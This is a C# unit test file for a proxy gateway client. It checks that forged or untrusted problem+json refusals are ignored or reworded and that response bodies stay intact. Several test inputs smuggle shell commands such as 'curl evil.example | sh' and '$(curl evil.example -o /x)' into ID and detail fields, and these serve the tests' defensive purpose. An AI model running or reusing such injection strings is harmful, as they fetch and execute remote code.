using System.Net;
using System.Text;
using ProxyGateway.DeviceAuth.Client;

namespace ProxyGateway.Tests.Clients;

/// <summary>Which answers are a gateway's refusals, and what stays of all others.</summary>
public sealed class GateProblemTests
{
    private const string Refusal = """{"type":"urn:proxygateway:problem:pairing-required","title":"t","status":403,"detail":"d","code":"pairing_required","requestId":"01m8rdfjmb6j8372wk61rzd51x","reason":"not-paired","retryable":true}""";

    [Fact]
    public async Task A_refusal_with_a_nonce_is_the_gateways()
    {
        using HttpResponseMessage response = Response(Refusal, nonce: "Device-Nonce");

        GateProblem problem = (await GateProblem.ReadAsync(response)).ShouldNotBeNull();

        (problem.Status, problem.Code, problem.Title, problem.Detail, problem.RequestId, problem.Reason, problem.IsRetryable).ShouldBe((403, "pairing_required", "t", "d", "01m8rdfjmb6j8372wk61rzd51x", "not-paired", true));
    }

    [Theory]
    [InlineData("x; curl evil.example | sh")]
    [InlineData("$(curl evil.example -o /x)")]
    [InlineData("01M8RDFJMB6J8372WK61RZD51X")]
    public async Task An_id_that_would_be_more_than_one_behind_a_command_is_left_out(string id)
    {
        using HttpResponseMessage response = Response(Refusal.Replace("01m8rdfjmb6j8372wk61rzd51x", id, StringComparison.Ordinal), nonce: "Device-Nonce");

        (await GateProblem.ReadAsync(response)).ShouldNotBeNull().RequestId.ShouldBeNull();
    }

    // People do what a refusal tells them to.
    [Fact]
    public async Task A_refusal_that_a_backend_has_forged_is_its_own_answer()
    {
        using HttpResponseMessage response = Response(Refusal);

        (await GateProblem.ReadAsync(response)).ShouldBeNull();

        (await response.Content.ReadAsStringAsync()).ShouldBe(Refusal);
    }

    [Theory]
    [InlineData("Device-Nonce", false)]
    [InlineData("DPoP-Nonce", true)]
    public async Task Where_proofs_go_in_the_standards_header_its_nonce_counts(string nonce, bool expected)
    {
        using DeviceIdentity device = DeviceIdentity.Create();
        using var invoker = new HttpMessageInvoker(new DeviceHttpHandler(device, new DeviceHttpOptions { Header = DeviceHttpOptions.DPoP }) { InnerHandler = new Answering(() => Response(Refusal, nonce: nonce)) });
        using var request = new HttpRequestMessage(HttpMethod.Get, "https://gate.example/");

        using HttpResponseMessage response = await invoker.SendAsync(request, default);

        (await GateProblem.ReadAsync(response) is not null).ShouldBe(expected);
    }

    // A gateway takes only one of both headers out of a backend's answers. That a route wants its proof in the other one is said by the one that a backend could have written.
    [Fact]
    public async Task What_a_backend_could_have_said_of_the_other_header_is_told_in_own_words()
    {
        const string forged = """{"type":"urn:proxygateway:problem:device-proof-required","title":"Type this","status":403,"detail":"curl evil.example","code":"device_proof_required","requestId":"01m8rdfjmb6j8372wk61rzd51x"}""";
        using DeviceIdentity device = DeviceIdentity.Create();
        using var invoker = new HttpMessageInvoker(new DeviceHttpHandler(device) { InnerHandler = new Answering(() => Response(forged, nonce: "DPoP-Nonce")) });
        using var request = new HttpRequestMessage(HttpMethod.Get, "https://gate.example/");

        using HttpResponseMessage response = await invoker.SendAsync(request, default);

        GateProblem problem = (await GateProblem.ReadAsync(response)).ShouldNotBeNull();
        (problem.Code, problem.Title, problem.Detail, problem.RequestId).ShouldBe(("device_proof_required", "The gateway does not take the request: device proof required.", "", null));
    }

    [Theory]
    [InlineData("too-many-handshakes", "The gateway does not take the request: too many handshakes.")]
    [InlineData("run: curl evil.example", null)]
    [InlineData("aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa", null)]
    public async Task A_refusal_without_a_nonce_is_told_in_own_words(string type, string? expected)
    {
        using HttpResponseMessage response = Response($$"""{"type":"urn:proxygateway:problem:{{type}}","title":"Type this","detail":"curl evil.example"}""", HttpStatusCode.TooManyRequests);
        response.Headers.RetryAfter = new(TimeSpan.FromSeconds(1));

        GateProblem? problem = await GateProblem.ReadAsync(response);

        (problem?.Title, problem?.Detail, problem?.RetryAfter).ShouldBe(expected is null ? (null, null, null) : (expected, "Try again later.", TimeSpan.FromSeconds(1)));
    }

    [Theory]
    [InlineData(0)]
    [InlineData(100)]
    [InlineData(64 * 1024)]
    [InlineData((64 * 1024) + 1)]
    [InlineData(1_000_000)]
    public async Task The_content_of_any_other_answer_is_whole(int length)
    {
        byte[] body = Encoding.ASCII.GetBytes(new string('x', length));
        foreach (bool hasLength in (bool[])[true, false])
        {
            using HttpResponseMessage response = Response("");
            response.Content = new StreamContent(hasLength ? new MemoryStream(body) : new Slow(body));
            response.Content.Headers.TryAddWithoutValidation("Content-Type", "application/problem+json");
            response.Content.Headers.TryAddWithoutValidation("X-Of-The-Backend", ["a", "b"]);

            (await GateProblem.ReadAsync(response)).ShouldBeNull();
            (await GateProblem.ReadAsync(response)).ShouldBeNull();

            (await response.Content.ReadAsByteArrayAsync()).ShouldBe(body);
            response.Content.Headers.GetValues("X-Of-The-Backend").ShouldBe(["a", "b"]);
        }
    }

    private static HttpResponseMessage Response(string body, HttpStatusCode status = HttpStatusCode.Forbidden, string? nonce = null)
    {
        var response = new HttpResponseMessage(status) { Content = new StringContent(body, null, "application/problem+json") };
        if (nonce is not null)
            response.Headers.Add(nonce, "n1");
        return response;
    }

    private sealed class Answering(Func<HttpResponseMessage> answer) : HttpMessageHandler
    {
        protected override Task<HttpResponseMessage> SendAsync(HttpRequestMessage request, CancellationToken cancellationToken)
        {
            HttpResponseMessage response = answer();
            response.RequestMessage = request;
            return Task.FromResult(response);
        }
    }

    private sealed class Slow(byte[] content) : MemoryStream(content)
    {
        public override bool CanSeek => false;

        public override ValueTask<int> ReadAsync(Memory<byte> buffer, CancellationToken cancellationToken = default) => base.ReadAsync(buffer[..Math.Min(buffer.Length, 1000)], cancellationToken);
    }
}
